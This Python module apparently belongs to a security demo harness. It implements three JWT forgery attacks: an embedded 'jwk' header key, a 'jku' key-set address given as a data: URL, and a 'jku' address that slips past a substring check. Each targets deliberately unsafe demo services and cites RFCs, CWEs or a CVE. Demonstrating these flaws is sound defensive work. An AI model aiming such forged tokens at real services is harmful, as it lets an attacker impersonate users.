"""The forger brings her own key, or says where it can be had."""

import base64
import json
from typing import Any

import jwt

from demo.attacks.base import Attack, Attacker
from demo.attacks.forgery import alices_claims, header, with_token
from demo.contenders import contender
from demo.harness import Client
from demo.keys import Key, key_for
from demo.unsafe.header_keys import (
    CHECKS_JKU_LOOSELY,
    FOLLOWS_JKU,
    TRUSTS_JWK,
)
from demo.unsafe.key_texts import jwk_of


def own_key(attacker: Attacker) -> Key:
    """Mallory's, for the algorithm that the service expects."""
    alices_claims(attacker)
    return key_for(attacker.service.contender.algorithm, "mallory")


def signed_by(attacker: Attacker, key: Key, **more: Any) -> Client:
    """Alice's claims, signed by Mallory, with more in the header."""
    claims = alices_claims(attacker)
    token = jwt.encode(
        claims, key.signing, key.algorithm, headers=header(**more)
    )
    return with_token(attacker, token)


def data_url(content: bytes, about: str = "application/json") -> str:
    """An address that holds its own content.  Source: RFC 2397."""
    return f"data:{about};base64,{base64.b64encode(content).decode()}"


def key_set(key: Key) -> bytes:
    """Source: RFC 7517 section 5."""
    return json.dumps({"keys": [jwk_of(key)]}).encode()


def forge_jwk(attacker: Attacker) -> Client:
    key = own_key(attacker)
    return signed_by(attacker, key, jwk=jwk_of(key))


def forge_jku(attacker: Attacker) -> Client:
    key = own_key(attacker)
    return signed_by(attacker, key, jku=data_url(key_set(key)))


def forge_jku_with_our_name(attacker: Attacker) -> Client:
    """The bank's name is in the address, and means nothing there."""
    key = own_key(attacker)
    url = data_url(key_set(key), "application/json;at=bank.test")
    return signed_by(attacker, key, jku=url)


FIXED = contender("JWT RS256")

EMBEDDED_JWK = Attack(
    id="embedded-jwk",
    name="the key comes with the token",
    claim="A token that brings its own key is verified by that key.",
    family="signature",
    source="RFC 7515 section 4.1.3, CWE-347, CVE-2018-0114",
    forge=forge_jwk,
    fixed=FIXED,
    flip=TRUSTS_JWK,
)
JKU = Attack(
    id="jku",
    name="an address for the keys",
    claim="A token that says where the keys are is verified by those.",
    family="signature",
    source="RFC 8725 section 3.10, CWE-918",
    forge=forge_jku,
    fixed=FIXED,
    flip=FOLLOWS_JKU,
)
JKU_SUBSTRING = Attack(
    id="jku-substring",
    name="an address with the bank's name in it",
    claim="A search for the bank's name in the address stops nobody.",
    family="signature",
    source="RFC 8725 section 3.10, CWE-918, CWE-183",
    forge=forge_jku_with_our_name,
    fixed=FIXED,
    flip=CHECKS_JKU_LOOSELY,
)
HEADER_KEY_ATTACKS = (EMBEDDED_JWK, JKU, JKU_SUBSTRING)
